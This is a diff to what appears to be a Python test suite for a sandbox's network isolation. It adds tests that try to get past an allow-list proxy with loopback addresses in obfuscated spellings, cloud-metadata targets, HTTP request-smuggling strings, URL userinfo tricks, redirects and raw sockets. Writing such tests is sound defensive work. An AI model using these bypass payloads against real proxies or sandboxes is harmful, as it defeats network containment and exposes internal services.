@@ -3,9 +3,12 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Callable
 
 from strop.errors import SandboxRefused
-from strop.sandbox.attack.contract import Attack, Code, Seen, always, attack, by_namespace
+from strop.sandbox.attack.contract import Attack, Code, Seen, Work, always, attack, by_namespace
+from strop.sandbox.attack.doors import INWARD, LISTED
+from strop.sandbox.attack.network import INTERFACE, METADATA
 from strop.sandbox.attack.stage import Stage, read_or_empty, seen
 from strop.sandbox.choose import make_backend
 from strop.sandbox.contract import IsolationLevel, SandboxSpec
@@ -19,6 +22,22 @@ for _, family, kind, address in json.loads(sys.argv[2]):
     attempt(caller.connect, tuple(address) if isinstance(address, list) else address)
     attempt(caller.send, TOKEN.encode())
     caller.close()
+"""
+_ASK = """
+host, _, port = os.environ["http_proxy"].rpartition("/")[2].partition(":")
+for head in json.loads(sys.argv[2]):
+    caller = socket.create_connection((host, int(port)), 20)
+    caller.sendall(head.replace("TOKEN", TOKEN).encode("latin-1"))
+    attempt(caller.recv, 4096)
+    # Where this is a tunnel, it goes through.
+    attempt(caller.sendall, sys.argv[3].replace("TOKEN", TOKEN).encode())
+    while attempt(caller.recv, 4096):
+        pass
+    caller.close()
+"""
+_FOLLOW = """
+import urllib.request
+attempt(urllib.request.urlopen, sys.argv[2], None, 20)
 """
 _RAW = """
 kept = [
@@ -117,17 +136,115 @@ async def _raw_sockets(stage: Stage) -> Seen:
 @attack(
     ATTACKS,
     17,
-    tries="be given a network that the backend does not have: a list of allowed hosts",
+    tries="be given a list of hosts that is open: every host, every port, a network",
     judged="whether a sandbox is made",
     expects=always(Code.BLOCKED),
 )
-async def _unknown_network(stage: Stage) -> Seen:
-    spec = SandboxSpec(network="allow:example.invalid", min_level=IsolationLevel.NONE)
-    try:
-        async with await make_backend(stage.isolation.backend).create(spec) as sandbox:
-            return seen(Code.EXPOSED, f"made, with network {sandbox.isolation.network}")
-    except SandboxRefused as refusal:
-        return seen(Code.BLOCKED, f"refused: {refusal.kind}")
+async def _open_list(stage: Stage) -> Seen:
+    for network in ("allow:*:443", "allow:example.invalid", "allow:0x7f.1:80", "allow:", "bridge"):
+        spec = SandboxSpec(network=network, min_level=IsolationLevel.NONE)
+        try:
+            async with await make_backend(stage.isolation.backend).create(spec) as sandbox:
+                return seen(Code.EXPOSED, f"made, with network {sandbox.isolation.network}")
+        except SandboxRefused as refusal:
+            said = refusal.kind
+    return seen(Code.BLOCKED, f"refused: {said}")
+
+
+def _listed_attack(tries: str) -> Callable[[Work], Work]:
+    return attack(
+        ATTACKS,
+        17,
+        tries=f"with a list of hosts: {tries}",
+        judged="what the suite's listeners heard, and tries in the log of refusals",
+        expects=by_namespace("netns"),
+        has_list=True,
+    )
+
+
+@_listed_attack("ask for other names, with a secret in them too")
+async def _list_other_host(stage: Stage) -> Seen:
+    port = stage.bait.doors[LISTED].port
+    names = (
+        "TOKEN.example.invalid",
+        "TOKEN.localhost",
+        f"localhost:{port}.example.invalid",
+        "localhost.evil",
+    )
+    return await _ask(stage, *(f"CONNECT {name}:{port} HTTP/1.1" for name in names))
+
+
+@_listed_attack("ask for another port of a host in it")
+async def _list_other_port(stage: Stage) -> Seen:
+    targets = [f"{host}:{stage.bait.doors['loopback'].port}" for host in ("localhost", "127.0.0.1")]
+    tunnels = [f"CONNECT {target} HTTP/1.1" for target in targets]
+    return await _ask(stage, *tunnels, *(f"GET http://{target}/TOKEN HTTP/1.1" for target in targets))
+
+
+@_listed_attack("ask for addresses, in every spelling, of IPv6 and of metadata too")
+async def _list_addresses(stage: Stage) -> Seen:
+    doors = stage.bait.doors
+    hosts = ["127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0", "[::ffff:127.0.0.1]", "[::1]", "[::]"]
+    targets = [f"{host}:{doors['loopback'].port}" for host in (*hosts, "127.0.0.2", INTERFACE)]
+    targets += [f"{host}:{doors[LISTED].port}" for host in ("127.1", "[::ffff:7f00:1]", "[::1]")]
+    targets += [f"{METADATA}:80", f"[::ffff:{METADATA}]:80"]
+    return await _ask(stage, *(f"CONNECT {target} HTTP/1.1" for target in targets))
+
+
+@_listed_attack("ask for a name in it that leads to this host's own network")
+async def _list_rebound_name(stage: Stage) -> Seen:
+    target = f"localhost:{stage.bait.doors[INWARD].port}"
+    return await _ask(stage, f"CONNECT {target} HTTP/1.1", f"GET http://{target}/TOKEN HTTP/1.1")
+
+
+@_listed_attack("be sent elsewhere by a host in it")
+async def _list_redirect(stage: Stage) -> Seen:
+    await stage.python(_FOLLOW, f"http://localhost:{stage.bait.doors[LISTED].port}/{stage.token}")
+    return await _heard_by_list(stage, 1)
+
+
+@_listed_attack("hide a request behind, and in, one for a host in it")
+async def _list_hidden_request(stage: Stage) -> Seen:
+    port, other = (stage.bait.doors[name].port for name in (LISTED, "loopback"))
+    hidden = f"GET http://127.0.0.1:{other}/TOKEN HTTP/1.1"
+    first = f"GET http://localhost:{port}/ HTTP/1.1"
+    # Of this the first is answered, and the second goes nowhere: neither is in the log.
+    await stage.python(_ASK, json.dumps([f"{first}\r\n\r\n{hidden}\r\n\r\n"]), "")
+    return await _ask(
+        stage,
+        f"{first}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
+        f"{first}\r\nContent-Length: 0\r\nContent-Length: 9\r\n\r\n{hidden}",
+        f"{first}\r\nHost: a\n\n{hidden}",
+        f"GET http://localhost:{port}@127.0.0.1:{other}/TOKEN HTTP/1.1",
+        f"GET http://127.0.0.1:{other}\\@localhost:{port}/TOKEN HTTP/1.1",
+    )
+
+
+@_listed_attack("go round its proxy, by TCP, UDP and Unix sockets")
+async def _list_way_round(stage: Stage) -> Seen:
+    await stage.python(_CALL, json.dumps([door.words for door in stage.bait.doors.values()]))
+    return await _ask(stage)
+
+
+async def _ask(stage: Stage, *requests: str) -> Seen:
+    """Ask the sandbox's proxy for what is not listed, with a token behind each; then for what is."""
+    await stage.python(_ASK, json.dumps([f"{one}\r\n\r\n" for one in requests]), "TOKEN")
+    found = await _heard_by_list(stage, len(requests), has_listed=False)
+    if found.code > Code.BLOCKED:
+        return found
+    # What fails because nothing works was not blocked.
+    target = f"127.0.0.1:{stage.bait.doors[LISTED].port}"
+    await stage.python(_ASK, json.dumps([f"CONNECT {target} HTTP/1.1\r\n\r\n"]), "TOKEN")
+    return await _heard_by_list(stage, len(requests))
+
+
+async def _heard_by_list(stage: Stage, num_refused: int, *, has_listed: bool = True) -> Seen:
+    heard = {door.name for door in stage.bait.doors.values() if await door.heard_of(stage.token)}
+    if heard != ({LISTED} if has_listed else set()):
+        return seen(Code.EXPOSED, f"heard by: {', '.join(sorted(heard)) or 'nobody, nor by what is listed'}")
+    num_logged = (await stage.sandbox.stats()).refused_calls
+    code = Code.BLOCKED if num_logged == num_refused else Code.EXPOSED
+    return seen(code, f"{num_logged} of {num_refused} tries are in the log of refusals")
 
 
 async def _reach(stage: Stage, *names: str) -> Seen:
